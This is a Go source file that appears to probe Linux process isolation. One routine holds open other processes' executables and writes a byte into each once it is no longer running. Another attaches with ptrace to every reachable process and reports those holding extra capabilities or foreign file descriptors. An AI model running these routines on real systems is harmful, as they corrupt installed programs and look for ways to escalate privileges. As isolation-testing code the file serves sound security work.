package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// processes returns the pids in /proc without this process's own.
func processes() []int {
	names, _ := filepath.Glob("/proc/[0-9]*")
	var pids []int
	for _, name := range names {
		if pid, err := strconv.Atoi(filepath.Base(name)); err == nil && pid != os.Getpid() {
			pids = append(pids, pid)
		}
	}
	return pids
}

// overwrite opens the executable of every process that appears, and writes to it as soon as no process executes it any more.
// The argument names executables to leave alone.
func overwrite(harmless []string) error {
	known := map[uint64]bool{}
	for _, path := range harmless {
		var st unix.Stat_t
		if err := unix.Stat(path, &st); err != nil {
			return err
		}
		known[st.Ino] = true
	}
	fmt.Println("ready")
	held := map[string]int{} // name, descriptor
	for {
		for _, pid := range processes() {
			take(fmt.Sprintf("/proc/%d/exe", pid), known, held)
		}
		for name, fd := range held {
			if stain(fd) {
				fmt.Println("overwrote", name)
				unix.Close(fd)
				delete(held, name)
			}
		}
	}
}

func take(exe string, known map[uint64]bool, held map[string]int) {
	fd, err := unix.Open(exe, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	// The opened file has to be named: the process may have executed another one since.
	name, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
	_, have := held[name]
	var st unix.Stat_t
	if err != nil || have || unix.Fstat(fd, &st) != nil || known[st.Ino] {
		unix.Close(fd)
		return
	}
	held[name] = fd
}

// stain opens the file again for writing, which works once no process executes it, and writes one byte.
func stain(fd int) bool {
	again, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return false
	}
	defer unix.Close(again)
	_, err = unix.Write(again, []byte{'#'})
	return err == nil
}

// seize attaches to every process that appears, and prints the capabilities and descriptors that this process lacks.
func seize([]string) error {
	runtime.LockOSThread() // a tracer is a thread
	own, err := capabilities("self")
	if err != nil {
		return err
	}
	fmt.Println("ready")
	seen := map[int]bool{}
	for {
		for _, pid := range processes() {
			if !seen[pid] && attach(pid) {
				seen[pid] = true
				inspect(pid, own)
			}
		}
		release()
	}
}

func attach(pid int) bool {
	_, _, errno := unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0, 0, 0)
	return errno == 0
}

// inspect looks several times: a seized process goes on.
func inspect(pid int, own uint64) {
	fmt.Println("seized", pid)
	for range 20 {
		if has, err := capabilities(strconv.Itoa(pid)); err == nil && has&^own != 0 {
			fmt.Printf("process %d has more: %x\n", pid, has)
			return
		}
		for fd := 3; fd < 20; fd++ {
			if link, ok := foreign(fmt.Sprintf("/proc/%d/fd/%d", pid, fd)); ok {
				fmt.Printf("process %d has a foreign descriptor: %s\n", pid, link)
				return
			}
		}
		release()
	}
}

// foreign reports whether a descriptor is of a file or directory that this process cannot reach by name.
func foreign(fd string) (string, bool) {
	link, err := os.Readlink(fd)
	if err != nil || !strings.HasPrefix(link, "/") {
		return "", false
	}
	has, err := os.Stat(fd)
	if err != nil || !has.IsDir() && !has.Mode().IsRegular() {
		return "", false
	}
	own, err := os.Stat(link)
	return link, err != nil || !os.SameFile(has, own)
}

// release continues stopped tracees and reaps dead ones.
func release() {
	for {
		var status unix.WaitStatus
		pid, err := unix.Wait4(-1, &status, unix.WNOHANG|unix.WALL, nil)
		if errors.Is(err, unix.ECHILD) || pid <= 0 {
			time.Sleep(50 * time.Microsecond)
			return
		}
		if status.Stopped() {
			signal := int(status.StopSignal())
			if status>>16 != 0 {
				signal = 0 // an event of ptrace, not a signal
			}
			unix.PtraceCont(pid, signal)
		}
	}
}

// capabilities returns the permitted set.
func capabilities(pid string) (uint64, error) {
	data, err := os.ReadFile("/proc/" + pid + "/status")
	if err != nil {
		return 0, err
	}
	for line := range strings.Lines(string(data)) {
		if value, ok := strings.CutPrefix(line, "CapPrm:"); ok {
			return strconv.ParseUint(strings.TrimSpace(value), 16, 64)
		}
	}
	return 0, errors.New("no CapPrm")
}
